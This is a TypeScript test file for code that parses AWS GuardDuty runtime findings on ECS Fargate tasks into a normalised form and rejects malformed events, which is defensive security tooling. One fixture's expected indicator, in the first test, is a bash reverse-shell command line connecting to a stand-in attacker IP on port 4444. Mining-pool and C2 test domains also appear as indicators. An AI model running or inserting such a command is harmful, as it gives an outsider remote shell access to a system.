import { describe, expect, it } from 'vitest';
import { InvalidEventError } from '../shared/events/invalid-event';
import { normaliseGuardDutyFinding } from '../shared/events/guardduty';
import { loadEvent, variant, type Json } from './helpers/deployment';

const reverseShell = loadEvent('gd-ecs-fargate-reverse-shell.json');

function rejection(event: unknown): InvalidEventError {
  try {
    normaliseGuardDutyFinding(event);
  } catch (error) {
    if (error instanceof InvalidEventError) return error;
    throw error;
  }
  throw new Error('expected the event to be rejected');
}

describe('normaliseGuardDutyFinding: the shipped samples', () => {
  it('reads the Fargate reverse shell: id, type, severity band, task, service, image and indicators', () => {
    const finding = normaliseGuardDutyFinding(reverseShell);
    expect(finding).toMatchObject({
      kind: 'runtime',
      source: 'guardduty',
      id: 'c4e6a8b0d2f44a6c8e0a2c4e6f8a0b1c',
      type: 'Execution:Runtime/ReverseShell',
      severity: 8,
      severityLabel: 'HIGH',
      account: '111122223333',
      region: 'us-east-1',
      sample: false,
      count: 1,
      task: {
        arn: 'arn:aws:ecs:us-east-1:111122223333:task/prod-cluster/8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a',
        clusterName: 'prod-cluster',
        clusterArn: 'arn:aws:ecs:us-east-1:111122223333:cluster/prod-cluster',
        service: 'orders-web',
        launchType: 'FARGATE',
        definitionArn: 'arn:aws:ecs:us-east-1:111122223333:task-definition/orders-web:17',
      },
      indicators: { process: 'bash', executablePath: '/bin/bash', commandLine: 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1', domains: [], remoteIps: [] },
    });
    expect(finding.task.containers).toEqual([
      { name: 'orders-web', image: '111122223333.dkr.ecr.us-east-1.amazonaws.com/orders-web@sha256:3b0f7e5c1a9d2f4e6b8c0a1d3e5f7a9b2c4d6e8f0a1b3c5d7e9f1a2b4c6d8e0f' },
    ]);
  });

  it('keeps the finding id across a re-publication and reads the new count', () => {
    const update = normaliseGuardDutyFinding(loadEvent('gd-ecs-fargate-reverse-shell-update.json'));
    expect(update.id).toBe(normaliseGuardDutyFinding(reverseShell).id);
    expect(update.count).toBe(4);
  });

  it('reads DNS indicators, cluster tags and the eu-central-1 region', () => {
    const crypto = normaliseGuardDutyFinding(loadEvent('gd-ecs-fargate-cryptocurrency-bitcointool-dns.json'));
    expect(crypto.indicators.domains).toEqual(['pool.supportxmr.com']);
    expect(crypto.clusterTags).toEqual({ environment: 'prod' });
    expect(crypto.count).toBe(3);
    const backdoor = normaliseGuardDutyFinding(loadEvent('gd-ecs-fargate-backdoor-c2-dns.json'));
    expect(backdoor.region).toBe('eu-central-1');
    expect(backdoor.indicators.domains).toEqual(['guarddutyc2activityb.com']);
    expect(backdoor.task.containers.map((c) => c.name)).toEqual(['worker', 'log-router']);
  });

  it('maps severities to the documented bands', () => {
    const label = (severity: number) => normaliseGuardDutyFinding(variant(reverseShell, (e) => (e.detail.severity = severity))).severityLabel;
    expect([1, 3.9, 4, 6.9, 7, 8.9, 9, 10].map(label)).toEqual(['LOW', 'LOW', 'MEDIUM', 'MEDIUM', 'HIGH', 'HIGH', 'CRITICAL', 'CRITICAL']);
  });

  it('marks sample findings: "sample":true inside additionalInfo.value, or as a field beside it', () => {
    expect(normaliseGuardDutyFinding(loadEvent('gd-ecs-fargate-sample-finding.json')).sample).toBe(true);
    const besides = variant(reverseShell, (e) => (e.detail.service.additionalInfo = { value: '{}', sample: true }));
    expect(normaliseGuardDutyFinding(besides).sample).toBe(true);
    const garbage = variant(reverseShell, (e) => (e.detail.service.additionalInfo = { value: 'not json {"sample":true' }));
    expect(normaliseGuardDutyFinding(garbage).sample).toBe(false);
  });

  it('reads the task tags GuardDuty sends (protection is decided on them)', () => {
    const finding = normaliseGuardDutyFinding(loadEvent('gd-ecs-fargate-protected-task.json'));
    expect(finding.task.tags).toEqual({ 'responder:protect': 'true', team: 'payments' });
  });

  it('derives the cluster name from a long-format task ARN when ecsClusterDetails has no name or ARN', () => {
    const event = variant(reverseShell, (e) => {
      delete e.detail.resource.ecsClusterDetails.name;
      delete e.detail.resource.ecsClusterDetails.arn;
    });
    const finding = normaliseGuardDutyFinding(event);
    expect(finding.task.clusterName).toBe('prod-cluster');
    expect(finding.task.clusterArn).toBe('arn:aws:ecs:us-east-1:111122223333:cluster/prod-cluster');
  });

  it('takes account and region from the envelope when detail lacks them', () => {
    const event = variant(reverseShell, (e) => {
      delete e.detail.accountId;
      delete e.detail.region;
    });
    expect(normaliseGuardDutyFinding(event)).toMatchObject({ account: '111122223333', region: 'us-east-1' });
  });
});

describe('normaliseGuardDutyFinding: malformed input names the field', () => {
  const cases: [string, unknown, string][] = [
    ['not an object (a string)', 'GuardDuty Finding', '(event)'],
    ['not an object (an array)', [reverseShell], '(event)'],
    ['not an object (null)', null, '(event)'],
    ['wrong source', variant(reverseShell, (e) => (e.source = 'aws.securityhub')), 'source'],
    ['wrong detail-type', variant(reverseShell, (e) => (e['detail-type'] = 'Security Hub Findings - Imported')), 'detail-type'],
    ['no detail', variant(reverseShell, (e) => delete e.detail), 'detail'],
    ['missing detail.id', variant(reverseShell, (e) => delete e.detail.id), 'detail.id'],
    ['empty detail.id', variant(reverseShell, (e) => (e.detail.id = '')), 'detail.id'],
    ['severity a string', variant(reverseShell, (e) => (e.detail.severity = '8')), 'detail.severity'],
    ['severity out of range', variant(reverseShell, (e) => (e.detail.severity = 11)), 'detail.severity'],
    ['severity missing', variant(reverseShell, (e) => delete e.detail.severity), 'detail.severity'],
    ['resourceType Instance', loadEvent('gd-ec2-instance-blackhole-dns-sample-negative.json'), 'detail.resource.resourceType'],
    ['resourceType missing', variant(reverseShell, (e) => delete e.detail.resource.resourceType), 'detail.resource.resourceType'],
    ['no taskDetails', variant(reverseShell, (e) => delete e.detail.resource.ecsClusterDetails.taskDetails), 'detail.resource.ecsClusterDetails.taskDetails'],
    ['missing taskDetails.arn', variant(reverseShell, (e) => delete e.detail.resource.ecsClusterDetails.taskDetails.arn), 'detail.resource.ecsClusterDetails.taskDetails.arn'],
    [
      'task ARN is an EC2 instance ARN',
      variant(reverseShell, (e) => (e.detail.resource.ecsClusterDetails.taskDetails.arn = 'arn:aws:ec2:us-east-1:111122223333:instance/i-0123456789abcdef0')),
      'detail.resource.ecsClusterDetails.taskDetails.arn',
    ],
    [
      'task ARN is a task-definition ARN',
      variant(reverseShell, (e) => (e.detail.resource.ecsClusterDetails.taskDetails.arn = 'arn:aws:ecs:us-east-1:111122223333:task-definition/orders-web:17')),
      'detail.resource.ecsClusterDetails.taskDetails.arn',
    ],
    ['taskDetails.arn a number', variant(reverseShell, (e) => (e.detail.resource.ecsClusterDetails.taskDetails.arn = 42)), 'detail.resource.ecsClusterDetails.taskDetails.arn'],
    ['task tags not a list', variant(reverseShell, (e: Json) => (e.detail.resource.ecsClusterDetails.taskDetails.tags = { a: 'b' })), 'detail.resource.ecsClusterDetails.taskDetails.tags'],
  ];

  it.each(cases)('%s → error on %s', (_label, event, field) => {
    const error = rejection(event);
    expect(error.field).toBe(field);
    expect(error.message.startsWith(`${field}: `)).toBe(true);
  });

  it('takes the cluster name from ecsClusterDetails when the ARN is short-format, and rejects when neither gives one', () => {
    const shortArn = variant(reverseShell, (e) => (e.detail.resource.ecsClusterDetails.taskDetails.arn = 'arn:aws:ecs:us-east-1:111122223333:task/8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a'));
    expect(normaliseGuardDutyFinding(shortArn).task.clusterName).toBe('prod-cluster');
    const nameless = variant(shortArn, (e) => {
      delete e.detail.resource.ecsClusterDetails.name;
      delete e.detail.resource.ecsClusterDetails.arn;
    });
    expect(rejection(nameless).field).toBe('detail.resource.ecsClusterDetails.name');
  });
});
